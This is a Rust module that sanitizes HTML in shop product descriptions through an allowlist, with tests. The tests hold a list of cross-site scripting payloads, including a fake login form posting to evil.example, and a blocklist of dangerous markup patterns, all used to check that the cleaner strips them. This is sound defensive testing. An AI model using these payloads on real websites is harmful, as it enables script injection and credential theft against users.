//! Descriptions: a few tags of HTML, and nothing that could run, load from elsewhere or look like the page itself.
//!
//! A [`RichText`] is made by cleaning only, so what is stored is clean whoever brought it. Plain text becomes
//! paragraphs.

use std::collections::{BTreeMap, BTreeSet, HashMap, HashSet};
use std::sync::OnceLock;

use ammonia::{Builder, UrlRelative};

use crate::picture;

/// The longest text that is cleaned, in characters.
pub const LENGTH_MAX: usize = 20_000;

/// Tags that stay, with their attributes.
const TAGS: &[(&str, &[&str])] = &[
    ("p", &[]),
    ("br", &[]),
    ("h3", &[]),
    ("h4", &[]),
    ("ul", &[]),
    ("ol", &["start"]),
    ("li", &[]),
    ("strong", &[]),
    ("b", &[]),
    ("em", &[]),
    ("i", &[]),
    ("a", &["href"]),
    ("img", &["src", "alt", "width", "height"]),
    ("table", &[]),
    ("thead", &[]),
    ("tbody", &[]),
    ("tr", &[]),
    ("th", &["colspan", "rowspan"]),
    ("td", &["colspan", "rowspan"]),
];

/// Where links may lead, beside this shop itself.
const SCHEMES: &[&str] = &["https", "http", "mailto", "tel"];

/// What a link says to whom it leads.
const REL: &str = "noopener noreferrer";

/// Text that may be shown as it is.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct RichText {
    html: String,
    pictures: Vec<[u8; 32]>,
    dropped: Vec<String>,
    too_long: bool,
}

impl RichText {
    /// Cleans what somebody wrote. What is longer than [`LENGTH_MAX`] is not looked at, and [`RichText::is_too_long`].
    pub fn of(written: &str) -> RichText {
        let written = written.trim();
        if written.chars().count() > LENGTH_MAX {
            return RichText { too_long: true, ..RichText::default() };
        }
        if !written.contains('<') {
            return RichText { html: paragraphs(written), ..RichText::default() };
        }
        let html = without_empty_pictures(&cleaner().clean(written).to_string());
        let html = match html.trim() {
            _ if is_blank(&html) => String::new(),
            // Words alone would be taken for plain text when they come back.
            words if !words.contains('<') => format!("<p>{words}</p>"),
            _ => html,
        };
        let pictures: BTreeSet<[u8; 32]> = pictures_in(&html);
        RichText { pictures: pictures.into_iter().collect(), dropped: dropped(written), html, too_long: false }
    }

    /// As it was stored.
    pub(crate) fn stored(html: String) -> RichText {
        let pictures = pictures_in(&html).into_iter().collect();
        RichText { html, pictures, ..RichText::default() }
    }

    /// As HTML.
    pub fn as_str(&self) -> &str {
        &self.html
    }

    /// The pictures in it, by what was uploaded.
    pub fn pictures(&self) -> &[[u8; 32]] {
        &self.pictures
    }

    /// What was not let through, by name: tags (`script`), attributes (`onclick`), addresses (`javascript:`).
    pub fn dropped(&self) -> &[String] {
        &self.dropped
    }

    /// True for what was too long to be looked at.
    pub fn is_too_long(&self) -> bool {
        self.too_long
    }
}

impl From<&str> for RichText {
    fn from(written: &str) -> Self {
        RichText::of(written)
    }
}

/// Texts by language, cleaned.
pub fn cleaned(written: BTreeMap<String, String>) -> BTreeMap<String, RichText> {
    written.into_iter().map(|(locale, text)| (locale, RichText::of(&text))).collect()
}

fn cleaner() -> &'static Builder<'static> {
    static CLEANER: OnceLock<Builder<'static>> = OnceLock::new();
    CLEANER.get_or_init(|| {
        let attributes: HashMap<&str, HashSet<&str>> = TAGS
            .iter()
            .filter(|(_, attributes)| !attributes.is_empty())
            .map(|(tag, attributes)| (*tag, attributes.iter().copied().collect()))
            .collect();
        let mut builder = Builder::empty();
        builder
            .tags(TAGS.iter().map(|(tag, _)| *tag).collect())
            .clean_content_tags(HashSet::from(["script", "style", "title", "textarea", "noscript", "template"]))
            .tag_attributes(attributes)
            .url_schemes(SCHEMES.iter().copied().collect())
            .url_relative(UrlRelative::PassThrough)
            .link_rel(Some(REL))
            .strip_comments(true)
            .attribute_filter(|tag, attribute, value| match (tag, attribute) {
                ("img", "src") => is_own_picture(value).then(|| value.into()),
                ("a", "href") => is_link(value).then(|| value.into()),
                ("img", "width" | "height") | ("ol", "start") | ("th" | "td", _) => {
                    is_number(value).then(|| value.into())
                }
                _ => Some(value.into()),
            });
        builder
    })
}

fn is_own_picture(address: &str) -> bool {
    address.strip_prefix(picture::MOUNT).and_then(picture::parse).is_some()
}

/// A page of this shop, or what begins with a scheme that the cleaner has looked at. `//host` is neither.
fn is_link(address: &str) -> bool {
    let address = address.trim();
    let own = address.starts_with('/') && !address.starts_with("//") && !address.starts_with("/\\");
    let scheme = address
        .split_once(':')
        .is_some_and(|(scheme, _)| SCHEMES.iter().any(|known| scheme.eq_ignore_ascii_case(known)));
    own || scheme || address.starts_with('#')
}

fn is_number(text: &str) -> bool {
    (1..=4).contains(&text.len()) && text.bytes().all(|byte| byte.is_ascii_digit())
}

/// Plain text: a paragraph after each empty line, a break after each other.
fn paragraphs(text: &str) -> String {
    let escaped = text.replace('&', "&amp;").replace('>', "&gt;");
    let lines: Vec<&str> = escaped.lines().map(str::trim).collect();
    lines
        .split(|line| line.is_empty())
        .filter(|paragraph| !paragraph.is_empty())
        .map(|paragraph| format!("<p>{}</p>", paragraph.join("<br>")))
        .collect()
}

/// True when there is nothing to read and nothing to see.
fn is_blank(html: &str) -> bool {
    !html.contains("<img") && texts(html).all(|text| text.replace("&nbsp;", "").trim().is_empty())
}

/// The words of clean HTML as plain text, for summaries and search engines.
pub fn plain(html: &str) -> String {
    let mut words = String::new();
    for text in texts(html) {
        for word in text.split_whitespace() {
            words.push_str(if words.is_empty() { "" } else { " " });
            words.push_str(word);
        }
    }
    let entities = [("&lt;", "<"), ("&gt;", ">"), ("&quot;", "\""), ("&#39;", "'"), ("&nbsp;", " "), ("&amp;", "&")];
    entities.into_iter().fold(words, |text, (entity, letter)| text.replace(entity, letter))
}

/// A piece of HTML: a tag from `<` to `>`, or the text between two.
enum Piece<'a> {
    Tag(&'a str),
    Text(&'a str),
}

/// Splits HTML, with `>` inside quotes as part of its tag.
fn pieces(html: &str) -> impl Iterator<Item = Piece<'_>> {
    let mut rest = html;
    std::iter::from_fn(move || {
        if rest.is_empty() {
            return None;
        }
        let is_tag = rest.starts_with('<')
            && rest[1..].starts_with(|letter: char| letter.is_ascii_alphabetic() || matches!(letter, '/' | '!' | '?'));
        let end = if is_tag {
            let mut quote = None;
            let end = rest.char_indices().find(|(_, letter)| match (quote, letter) {
                (None, '>') => true,
                (None, '"' | '\'') => {
                    quote = Some(*letter);
                    false
                }
                (Some(open), letter) if open == *letter => {
                    quote = None;
                    false
                }
                _ => false,
            });
            end.map_or(rest.len(), |(at, _)| at + 1)
        } else {
            rest.char_indices().skip(1).find(|(_, letter)| *letter == '<').map_or(rest.len(), |(at, _)| at)
        };
        let (piece, after) = rest.split_at(end);
        rest = after;
        Some(if is_tag { Piece::Tag(piece) } else { Piece::Text(piece) })
    })
}

fn texts(html: &str) -> impl Iterator<Item = &str> {
    pieces(html).filter_map(|piece| match piece {
        Piece::Text(text) => Some(text),
        Piece::Tag(_) => None,
    })
}

/// Clean HTML without the pictures whose address was taken from them.
fn without_empty_pictures(html: &str) -> String {
    let stays = |tag: &str| !tag.starts_with("<img") || tag.contains(" src=\"");
    pieces(html)
        .filter_map(|piece| match piece {
            Piece::Tag(tag) => stays(tag).then_some(tag),
            Piece::Text(text) => Some(text),
        })
        .collect()
}

/// What the pictures in clean HTML were uploaded as.
fn pictures_in(html: &str) -> BTreeSet<[u8; 32]> {
    let opening = format!("src=\"{}", picture::MOUNT);
    html.split(opening.as_str())
        .skip(1)
        .filter_map(|rest| picture::parse(rest.split('"').next()?).map(|(sha256, ..)| sha256))
        .collect()
}

/// Names what the cleaner does not let through, so that whoever wrote it notices. Only for people: what is let
/// through is the cleaner's decision.
fn dropped(written: &str) -> Vec<String> {
    let mut found = BTreeSet::new();
    for piece in pieces(written) {
        let Piece::Tag(tag) = piece else { continue };
        let inside = tag.trim_start_matches('<').trim_end_matches('>').trim_end_matches('/');
        if inside.starts_with(['/', '!', '?']) {
            continue;
        }
        let name_ends = inside.find(|letter: char| letter.is_whitespace() || letter == '/').unwrap_or(inside.len());
        let name = inside[..name_ends].to_ascii_lowercase();
        let Some((_, allowed)) = TAGS.iter().find(|(known, _)| *known == name) else {
            found.insert(short(&name));
            continue;
        };
        for (attribute, value) in attributes(&inside[name_ends..]) {
            let fine = match (name.as_str(), attribute.as_str()) {
                ("img", "src") => is_own_picture(value.trim()),
                ("a", "href") => is_link(&value),
                ("a", "rel" | "target") => true,
                _ => allowed.contains(&attribute.as_str()),
            };
            if !fine {
                let address = matches!(attribute.as_str(), "src" | "href").then_some(value.as_str());
                found.insert(short(address.filter(|address| !address.is_empty()).unwrap_or(&attribute)));
            }
        }
    }
    found.into_iter().take(20).collect()
}

/// Attributes with their values, as browsers would read them, roughly.
fn attributes(mut rest: &str) -> Vec<(String, String)> {
    let mut found = Vec::new();
    loop {
        rest = rest.trim_start_matches(|letter: char| letter.is_whitespace() || letter == '/');
        if rest.is_empty() {
            return found;
        }
        let ends = rest
            .char_indices()
            .skip(1)
            .find(|(_, letter)| letter.is_whitespace() || matches!(letter, '=' | '/'))
            .map_or(rest.len(), |(at, _)| at);
        let (name, after) = rest.split_at(ends);
        let after = after.trim_start();
        let Some(value) = after.strip_prefix('=') else {
            found.push((name.to_ascii_lowercase(), String::new()));
            rest = after;
            continue;
        };
        let value = value.trim_start();
        let quote = value.chars().next().filter(|letter| matches!(letter, '"' | '\''));
        let (value, after) = match quote {
            Some(quote) => value[1..].split_once(quote).unwrap_or((&value[1..], "")),
            None => value.split_at(value.find(char::is_whitespace).unwrap_or(value.len())),
        };
        found.push((name.to_ascii_lowercase(), value.to_owned()));
        rest = after;
    }
}

fn short(text: &str) -> String {
    const MOST: usize = 40;
    if text.chars().count() <= MOST { text.to_owned() } else { text.chars().take(MOST).chain(['…']).collect() }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(written: &str) -> String {
        RichText::of(written).as_str().to_owned()
    }

    #[test]
    fn what_shops_write_stays() {
        let own = format!("/media/{}-480.jpg", "ab".repeat(32));
        for stays in [
            "<p>每天早上<strong>現烤</strong>，<em>冷藏</em>三天。</p>".to_owned(),
            "<h3>成分</h3><ul><li>麵粉</li><li>蛋</li></ul><ol start=\"2\"><li>烤</li></ol>".to_owned(),
            "<table><thead><tr><th colspan=\"2\">Per 100 g</th></tr></thead><tbody><tr><td>kcal</td><td>320</td></tr></tbody></table>".to_owned(),
            format!("<p><img src=\"{own}\" alt=\"切面\" width=\"480\" height=\"360\"></p>"),
            "<p>a<br>b &amp; c &lt; d</p>".to_owned(),
        ] {
            let text = RichText::of(&stays);
            assert_eq!((text.as_str(), text.dropped()), (stays.as_str(), &[] as &[String]));
            assert_eq!(of(text.as_str()), text.as_str(), "cleaning twice changes nothing");
        }
        assert_eq!(
            of("<a href=\"https://tea.example/a?b=1&c=2\" target=\"_blank\">x</a>"),
            "<a href=\"https://tea.example/a?b=1&amp;c=2\" rel=\"noopener noreferrer\">x</a>"
        );
        assert_eq!(RichText::of(&format!("<img src=\"{own}\">")).pictures(), [[0xab; 32]]);
    }

    #[test]
    fn plain_text_becomes_paragraphs() {
        assert_eq!(of(" 第一行\n第二行\r\n\n\n5 > 3 & 2\n"), "<p>第一行<br>第二行</p><p>5 &gt; 3 &amp; 2</p>");
        assert_eq!(of("  \n "), "");
        assert_eq!(of("<p>&nbsp;</p><p><br></p>"), "", "what an empty editor sends");
        assert_eq!(plain("<p>a<br>b &amp;amp; c</p><p>&lt;d&gt;</p>"), "a b &amp; c <d>");
    }

    /// What must not be in any of them, in whatever case.
    const NEVER: &[&str] = &[
        "<script",
        "javascript:",
        "vbscript:",
        "data:",
        "onerror",
        "onload",
        "onclick",
        "onmouseover",
        "onfocus",
        "<svg",
        "<math",
        "<style",
        "<iframe",
        "<object",
        "<embed",
        "<form",
        "<input",
        "<base",
        "<meta",
        "<link",
        "style=",
        "srcdoc",
        "<!--",
        "evil.example",
        "<noscript",
        "<template",
        "<textarea",
        "<title",
        "class=",
        "id=",
    ];

    #[test]
    fn attacks_come_to_nothing() {
        let own = format!("/media/{}-480.jpg", "ab".repeat(32));
        let attacks: Vec<String> = [
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example/x.js></sCrIpT>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<img src=x onerror=alert(1)>",
            "<img src=\"https://evil.example/p.gif\">",
            "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
            "<img src=\"/media/../admin\">",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"JaVa\tScRiPt:alert(1)\">x</a>",
            "<a href=\"&#106;avascript&colon;alert(1)\">x</a>",
            "<a href=\" &#x1; javascript:alert(1)\">x</a>",
            "<a href=\"vbscript:msgbox(1)\">x</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
            "<a href=\"//evil.example\">x</a>",
            "<a href=\"/\\evil.example\">x</a>",
            "<p onclick=alert(1) onmouseover='x'>x</p>",
            "<p/onclick=alert(1)>x</p>",
            "<svg onload=alert(1)><circle/></svg>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><style><img src=x onerror=alert(1)></style></svg>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
            "<style>@import 'https://evil.example/x.css'</style>",
            "<p style=\"position:fixed;inset:0\">x</p>",
            "<iframe src=\"https://evil.example\"></iframe><iframe srcdoc=\"<script>alert(1)</script>\">",
            "<object data=\"https://evil.example\"></object><embed src=x>",
            "<form action=\"https://evil.example\"><input name=password><button>Log in</button></form>",
            "<base href=\"https://evil.example\"><meta http-equiv=refresh content=0><link rel=stylesheet href=//evil.example>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
            "<title><a title=\"</title><img src=x onerror=alert(1)>\"></title>",
            "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
            "<template><img src=x onerror=alert(1)></template>",
            "<!--><img src=x onerror=alert(1)>--><p>x</p>",
            "<![CDATA[<img src=x onerror=alert(1)>]]>",
            "<p id=main class=alert>x</p>",
            "<table><td><img src=x onerror=alert(1)></td><svg onload=alert(1)>",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<a href='https://tea.example' onfocus=alert(1) autofocus>x</a>",
            "\u{0}<scr\u{0}ipt>alert(1)</script>",
            "<p>x</p><plaintext><script>alert(1)</script>",
            "<xmp><img src=x onerror=alert(1)></xmp>",
        ]
        .map(str::to_owned)
        .into_iter()
        .chain([format!("<img src=\"{own}\" onload=alert(1) style=x srcset=\"https://evil.example 1x\">")])
        .collect();
        for attack in &attacks {
            let text = RichText::of(attack);
            let clean = text.as_str().to_lowercase();
            // What is only shown as words is no tag.
            let tags: String =
                pieces(&clean).filter_map(|piece| if let Piece::Tag(tag) = piece { Some(tag) } else { None }).collect();
            for never in NEVER {
                assert!(!tags.contains(never), "{attack}\n→ {clean}");
            }
            assert_eq!(of(text.as_str()), text.as_str(), "{attack}: cleaning twice changes nothing");
        }
    }

    #[test]
    fn what_is_dropped_is_named() {
        let named = |written: &str| RichText::of(written).dropped().to_vec();
        assert_eq!(named("<p onclick='x'>a</p><script>1</script>"), ["onclick", "script"]);
        assert_eq!(named("<a href='javascript:alert(1)'>a</a>"), ["javascript:alert(1)"]);
        assert_eq!(named("<IMG SRC=https://evil.example/p.gif>"), ["https://evil.example/p.gif"]);
        assert_eq!(named("<h1>big</h1>"), ["h1"]);
        assert!(named("<p>5 < 3, 1 <2</p>").is_empty());
    }

    #[test]
    fn what_is_too_long_is_not_looked_at() {
        let text = RichText::of(&"<b>".repeat(LENGTH_MAX));
        assert!(text.is_too_long() && text.as_str().is_empty());
    }

    #[test]
    fn deep_nests_are_cleaned_in_time() {
        let text = RichText::of(&"<b><p>".repeat(LENGTH_MAX / 6));
        assert!(!text.is_too_long());
    }
}
